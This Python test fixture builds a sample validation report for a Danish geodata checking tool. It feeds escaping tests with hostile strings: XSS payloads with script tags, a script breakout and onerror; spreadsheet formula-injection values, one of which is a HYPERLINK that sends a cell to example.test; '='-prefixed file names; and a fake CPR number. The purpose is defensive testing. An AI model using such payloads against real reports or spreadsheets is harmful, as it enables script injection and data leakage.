"""A small report made by hand: two layers, every severity, undecided, skipped rules, and texts that mean harm."""

from __future__ import annotations

import datetime as dt
from typing import TYPE_CHECKING, Any

import numpy as np

from geoplan.dataset import LayerInfo
from geoplan.rules import NO_HITS, Attachment, Findings, Group, InputLayer, Outcome, Reference, Report, Rule, Severity, Skipped
from geoplan.texts import Phrase

if TYPE_CHECKING:
    from collections.abc import Sequence

SCRIPT = "<script>window.hacked=1</script>"
BREAKOUT = "</script><img src=x onerror=window.hacked=2>'\"`${window.hacked=3}"
FORMULA = '=HYPERLINK("http://example.test/?x="&A1;"klik")'
CPR = "010190-1234"
LONG = "æøå " * 60
SPEC = Reference("FKG-specifikation 5.4.1")


def rule(name: str, severity: Severity, message: str, **values: Any) -> Rule:
    return Rule(
        **{
            "id": name,
            "title": "Feltets værdi er forkert",
            "layer": "t_5800_fac_pkt",
            "severity": severity,
            "reference": SPEC,
            "check": lambda rows, context: NO_HITS,
            "message": message,
            "advice": "Ret værdien.",
            **values,
        }
    )


def group(
    rule: Rule,
    layer: LayerInfo,
    value: Sequence[Any],
    *,
    row: Sequence[int] | None = None,
    place: Sequence[Sequence[float]] | None = None,
    limit: Sequence[Any] | None = None,
    other: Sequence[int] | None = None,
    outcome: Outcome = Outcome.BREACH,
    count: int | None = None,
    **details: Sequence[Any],
) -> Group:
    n = len(value)
    rows = np.array(range(n) if row is None else row, dtype=np.int64)
    return Group(
        rule,
        layer,
        outcome,
        n if count is None else count,
        row=rows,
        feature=np.where(rows < 0, -1, rows + 1),
        place=np.full((n, 2), np.nan) if place is None else np.array(place, dtype=float).reshape(n, 2),
        value=list(value),
        limit=[None] * n if limit is None else list(limit),
        other=np.full(n, -1, dtype=np.int64) if other is None else np.array(other, dtype=np.int64),
        details=details,
    )


POINTS = LayerInfo(name="facilitet_pkt", kind="t_5800_fac_pkt", path="leverance.gpkg", declared_crs="EPSG:25832")
AREAS = LayerInfo(name=f"flader {SCRIPT} {CPR}", kind="t_5800_fac_fl", path="=flader.gpkg", declared_crs="EPSG:25832")

STATUS = rule(
    "fkg.t_5800_fac_pkt.statuskode.code",
    Severity.ERROR,
    "{field} er {value}. Tilladt er {limit}.",
    field="statuskode",
    title="Koden findes ikke i kodelisten",
    advice="Ret koden; er status ukendt, så brug 0 (Ukendt).",
)
VALID = rule(
    "fkg.t_5800_fac_fl.geometri.valid",
    Severity.ERROR,
    "Fladen {reason} ved {place}.",
    field="geometri",
    title="Geometrien er ikke gyldig",
    advice="Flyt punktet, eller kør `geoplan normalise`.",
    layer="t_5800_fac_fl",
)
COLUMN = rule("fkg.t_5800_fac_pkt.column", Severity.ERROR, "Laget {layer} mangler kolonnen {limit}.", title="Kolonnen mangler")
NOTE = rule(
    "fkg.t_5800_fac_pkt.note.text",
    Severity.WARNING,
    "{field} er »{value}«.",
    field="note",
    title="Teksten ser ikke rigtig ud",
    advice="Læs teksten igennem.",
)
AREA = rule(
    "fkg.t_5800_fac_fl.area",
    Severity.WARNING,
    "Fladen er {value} {unit} og overlapper række {other}. Mindst {limit} {unit}.",
    field="areal",
    unit="m²",
    title="Fladen er meget lille",
    layer="t_5800_fac_fl",
    reference=Reference("FKG-specifikation 5.7", "medium"),
)
LINK = rule("fkg.t_5800_fac_pkt.link.form", Severity.NOTICE, "{field} er {value}.", field="link", title="Linket er ikke helt")
INSIDE = rule(
    "fkg.t_5800_fac_pkt.inside", Severity.WARNING, "Række {row} i {layer} kan ikke stedfæstes.", title="Objektet ligger i kommunen"
)
BOUNDARY = rule("fkg.t_5800_fac_pkt.boundary", Severity.ERROR, "", title="Objektet ligger i kommunen", skip="x")
DATES = rule("fkg.t_5800_fac_fl.dates", Severity.ERROR, "", title="Datoer", layer="t_5800_fac_fl")


def build() -> Report:
    groups = (
        group(
            STATUS,
            POINTS,
            [7, None, 9, 12, 12],
            row=[3, 4, 10, 11, 250],
            place=[(574212.3149, 6223908.7651), (574213, 6223909), (np.nan, np.nan), (574300.5, 6224000.5), (574400, 6224100)],
            limit=["0-4 (d_basis_status)"] * 5,
            count=1005,
        ),
        group(COLUMN, POINTS, [None], row=[-1], limit=["objekt_id"]),
        group(VALID, AREAS, [None], row=[31], place=[(574500.25, 6224200.125)], reason=[Phrase("krydser sig selv")]),
        group(
            NOTE,
            POINTS,
            [SCRIPT, BREAKOUT, FORMULA, f"Ring til {CPR}", 'han sagde "nej"\n\tog gik', "-2+3", "@sum(a1)", LONG, "", "  ", "\ud800a\x00b"],
            place=[(574210 + 15 * i, 6223900 + 9 * i) for i in range(11)],
        ),
        group(NOTE, POINTS, [101901234, 1101901234, 2024, -3.5, True, float("nan")], row=range(20, 26)),
        group(AREA, AREAS, [0.5, 1234.5678], place=[(574600, 6224300), (574650, 6224310)], limit=[2.0, 2000.0], other=[8, 9]),
        group(LINK, POINTS, ["www"], row=[6], place=[(574700, 6224350)]),
        group(INSIDE, POINTS, [None, None], row=[7, 8], outcome=Outcome.UNDECIDED),
    )
    skipped = (
        Skipped(BOUNDARY, POINTS.name, "ingen kommunegrænser er givet"),
        Skipped(DATES, AREAS.name, "kolonnen {columns} findes ikke i laget", {"columns": f"systid_til {CPR}"}, incomplete=False),
    )
    layers = (POINTS, AREAS)
    return Report(
        findings=Findings(groups, layers),
        rules=(STATUS, VALID, COLUMN, NOTE, AREA, LINK, INSIDE),
        skipped=skipped,
        layers=layers,
        row_counts=(4100, 114),
        inputs=(
            InputLayer("leverance.gpkg", POINTS.name, POINTS.kind, 4100, "EPSG:25832", "0" * 64),
            InputLayer("=flader.gpkg", AREAS.name, AREAS.kind, 114, "EPSG:25832", "a1" * 32),
        ),
        versions={"geoplan": "0.1.0", "datamodel": "2026-11"},
        day=dt.date(2026, 11, 22),
        kommune="0999",
        attachments=(
            Attachment(f"=følgebrev {CPR}.pdf", "attachment", "Filen er et bilag og ikke et lag. Den er ikke undersøgt."),
            Attachment(
                "leverance.gpkg", "left_out", "{layer} er en visning (view) og ikke en tabel. Den er ikke undersøgt.", {"layer": SCRIPT}
            ),
        ),
    )


def empty(skipped: tuple[Skipped, ...] = ()) -> Report:
    return Report(
        findings=Findings((), (POINTS,)),
        rules=(STATUS,),
        skipped=skipped,
        layers=(POINTS,),
        row_counts=(4100,),
        inputs=(InputLayer("leverance.gpkg", POINTS.name, POINTS.kind, 4100, "EPSG:25832", "0" * 64),),
        versions={"geoplan": "0.1.0"},
        day=dt.date(2026, 11, 22),
        kommune="",
    )
